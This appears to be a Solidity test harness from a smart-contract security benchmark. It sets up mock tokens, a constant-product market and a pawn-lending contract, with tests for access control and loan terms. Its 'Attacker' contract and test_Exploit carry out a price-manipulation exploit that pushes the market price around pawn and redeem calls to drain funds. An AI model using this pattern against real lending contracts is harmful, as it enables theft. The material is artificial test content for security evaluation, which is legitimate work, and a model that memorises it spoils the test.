// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./ChandlersPawn.sol";

// assay-canary-48a36e66-e75e-4516-9c20-be1099b7d0a0

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Goods is IGoods {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = 1e27;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A thin market: constant product, no fee.
contract QuayMarket is IQuayMarket {
    Goods public immutable cordage;
    Goods public immutable coin;

    constructor(Goods cordage_, Goods coin_) {
        (cordage, coin) = (cordage_, coin_);
    }

    function reserves() public view override returns (uint256, uint256) {
        return (cordage.balanceOf(address(this)), coin.balanceOf(address(this)));
    }

    function sell(bool coins, uint256 amount) external returns (uint256 got) {
        (Goods given, Goods taken) = coins ? (coin, cordage) : (cordage, coin);
        got = taken.balanceOf(address(this)) * amount / (given.balanceOf(address(this)) + amount);
        given.transferFrom(msg.sender, address(this), amount);
        taken.transfer(msg.sender, got);
    }
}

contract Attacker {
    ChandlersPawn internal counter;
    QuayMarket internal market;
    Goods internal cordage;
    Goods internal coin;

    constructor(ChandlersPawn counter_, QuayMarket market_, Goods cordage_, Goods coin_) {
        (counter, market, cordage, coin) = (counter_, market_, cordage_, coin_);
        cordage.approve(address(counter), type(uint256).max);
        coin.approve(address(counter), type(uint256).max);
        cordage.approve(address(market), type(uint256).max);
        coin.approve(address(market), type(uint256).max);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(counter).call(data);
    }

    function run() external {
        // raise the quay, pawn, bring the quay down again
        uint256 spent = coin.balanceOf(address(this)) * 9 / 10;
        uint256 bought = market.sell(true, spent);
        _try(abi.encodeCall(counter.pawn, (40 ether, 0)));
        _try(abi.encodeCall(counter.pawn, (type(uint128).max, 0)));
        market.sell(false, bought);
        // press the quay, pawn and redeem, let it rise again
        spent = cordage.balanceOf(address(this)) / 2;
        bought = market.sell(false, spent);
        _try(abi.encodeCall(counter.pawn, (10 ether, 0)));
        _try(abi.encodeCall(counter.prolong, (2)));
        _try(abi.encodeCall(counter.redeem, (2)));
        _try(abi.encodeCall(counter.redeem, (2)));
        market.sell(true, bought);
        // goods given away, so that the counter or the market looks richer
        cordage.transfer(address(counter), 1 ether);
        coin.transfer(address(market), 10 ether);
        _try(abi.encodeCall(counter.pawn, (5 ether, 0)));
        // what is not ours to do
        _try(abi.encodeCall(counter.appraise, (1_000_000 ether)));
        _try(abi.encodeCall(counter.redeem, (0)));
        _try(abi.encodeCall(counter.prolong, (0)));
        _try(abi.encodeCall(counter.keep, (0)));
        _try(abi.encodeCall(counter.withdraw, (1 ether)));
        _try(abi.encodeCall(counter.pawn, (0, 0)));
    }

    /// Prices two days old, then a term that is over.
    function later() external {
        uint256 bought = market.sell(true, coin.balanceOf(address(this)) / 2);
        _try(abi.encodeCall(counter.pawn, (5 ether, 0)));
        market.sell(false, bought);
        _try(abi.encodeCall(counter.redeem, (0)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Goods private cordage;
    Goods private lender;
    QuayMarket private market;
    ChandlersPawn private counter;
    Attacker private crimp;
    address private constant OLA = address(0x01A);

    function setUp() public {
        vm.warp(1_764_000_000);
        cordage = new Goods();
        lender = new Goods();
        market = new QuayMarket(cordage, lender);
        cordage.transfer(address(market), 1000 ether);
        lender.transfer(address(market), 10_000 ether);
        counter = new ChandlersPawn(cordage, lender, market, [address(0xA1), address(0xA2), address(0xA3)]);
        lender.transfer(address(counter), 20_000 ether);
        _appraise(10 ether, 10.2 ether, 9.9 ether);
        crimp = new Attacker(counter, market, cordage, lender);
        cordage.transfer(address(crimp), 100 ether);
        lender.transfer(address(crimp), 30_000 ether);
        cordage.transfer(OLA, 50 ether);
        lender.transfer(OLA, 50 ether);
        vm.prank(OLA);
        cordage.approve(address(counter), type(uint256).max);
        vm.prank(OLA);
        lender.approve(address(counter), type(uint256).max);
        vm.prank(OLA);
        counter.pawn(20 ether, 99 ether);
    }

    function _appraise(uint128 a, uint128 b, uint128 c) private {
        vm.prank(address(0xA1));
        counter.appraise(a);
        vm.prank(address(0xA2));
        counter.appraise(b);
        vm.prank(address(0xA3));
        counter.appraise(c);
    }

    function test_Regular() public {
        require(lender.balanceOf(OLA) == 150 ether && counter.pawnAt(0).due == 102 ether, "half of two hundred");
        _appraise(11 ether, 30 ether, 10 ether);
        require(counter.appraised() == 11 ether, "the middle one");
        _appraise(30 ether, 9 ether, 10 ether);
        require(counter.appraised() == 10 ether, "the middle one");
        _appraise(10 ether, 10 ether, 10 ether);
        vm.prank(OLA);
        (bool ok, ) = address(counter).call(abi.encodeCall(counter.pawn, (10 ether, 51 ether)));
        require(!ok, "insists on more");
        vm.warp(block.timestamp + 50 days);
        (ok, ) = address(counter).call(abi.encodeCall(counter.quote, (1 ether)));
        require(!ok, "stale");
        vm.prank(OLA);
        counter.prolong(0);
        require(lender.balanceOf(OLA) == 147.96 ether, "fee");
        vm.warp(block.timestamp + 50 days);
        (ok, ) = address(counter).call(abi.encodeCall(counter.keep, (0)));
        require(!ok, "running");
        vm.prank(OLA);
        counter.redeem(0);
        require(lender.balanceOf(OLA) == 45.96 ether && cordage.balanceOf(OLA) == 50 ether, "redeemed");

        _appraise(10 ether, 10 ether, 10 ether);
        vm.prank(OLA);
        uint256 id = counter.pawn(10 ether, 50 ether);
        vm.warp(block.timestamp + 61 days);
        vm.prank(OLA);
        (ok, ) = address(counter).call(abi.encodeCall(counter.redeem, (id)));
        require(!ok, "over");
        uint256 before = cordage.balanceOf(address(this));
        counter.keep(id);
        require(cordage.balanceOf(address(this)) == before + 10 ether, "kept");
        counter.withdraw(19_000 ether);
    }

    function coin() public view returns (address) {
        return address(lender);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A pawn is its owner's, and the counter the chandler's.
    function test_RefusesStrangers() public {
        vm.prank(address(crimp));
        lender.transfer(address(this), 20_000 ether);
        lender.approve(address(counter), type(uint256).max);
        vm.expectRevert(abi.encodeWithSelector(ChandlersPawn.NotYourPawn.selector, 0));
        counter.prolong(0);
        vm.expectRevert(abi.encodeWithSelector(ChandlersPawn.NotYourPawn.selector, 0));
        counter.redeem(0);
        refuses(OLA, ChandlersPawn.ChandlerOnly.selector);
        counter.withdraw(1);
        vm.warp(block.timestamp + 61 days);
        refuses(OLA, ChandlersPawn.ChandlerOnly.selector);
        counter.keep(0);
    }

    /// Terms end, and what is gone cannot be kept again.
    function test_RefusesAfterTheTerm() public {
        uint256 until = block.timestamp + 60 days;
        vm.warp(until + 1);
        refuses(OLA, abi.encodeWithSelector(ChandlersPawn.TermOver.selector, until));
        counter.prolong(0);
        counter.keep(0);
        vm.expectRevert(abi.encodeWithSelector(ChandlersPawn.NotYourPawn.selector, 0));
        counter.keep(0);
    }

    /// Nothing is lent on nothing, nor more than the books can hold.
    function test_RefusesAmounts() public {
        refuses(OLA, abi.encodeWithSelector(ChandlersPawn.LendsLess.selector, 0));
        counter.pawn(0, 0);
        refuses(OLA, abi.encodeWithSelector(ChandlersPawn.LendsLess.selector, type(uint128).max));
        counter.pawn(type(uint128).max, 0);
    }

    /// Goods and coins that are not delivered stop the deal.
    function test_RefusesUndelivered() public {
        cordage.sleep(true);
        refuses(OLA, ChandlersPawn.NotDelivered.selector);
        counter.pawn(1 ether, 0);
        refuses(OLA, ChandlersPawn.NotDelivered.selector);
        counter.redeem(0);
        cordage.sleep(false);
        lender.sleep(true);
        refuses(OLA, ChandlersPawn.NotDelivered.selector);
        counter.pawn(1 ether, 0);
        refuses(OLA, ChandlersPawn.NotDelivered.selector);
        counter.prolong(0);
        refuses(OLA, ChandlersPawn.NotDelivered.selector);
        counter.redeem(0);
        vm.expectRevert(ChandlersPawn.NotDelivered.selector);
        counter.withdraw(1);
        lender.sleep(false);
        cordage.sleep(true);
        vm.warp(block.timestamp + 61 days);
        vm.expectRevert(ChandlersPawn.NotDelivered.selector);
        counter.keep(0);
    }

    function exploit() public {
        crimp.run();
        vm.warp(block.timestamp + 3 days);
        crimp.later();
        vm.warp(block.timestamp + 60 days);
        crimp.later();
    }

    // A hundred cordage are worth a thousand.
    function test_Exploit() public {
        uint256 before = lender.balanceOf(address(crimp));
        exploit();
        require(lender.balanceOf(address(crimp)) >= before + 1500 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(counter);
    }

    function attacker() public view returns (address) {
        return address(crimp);
    }
}
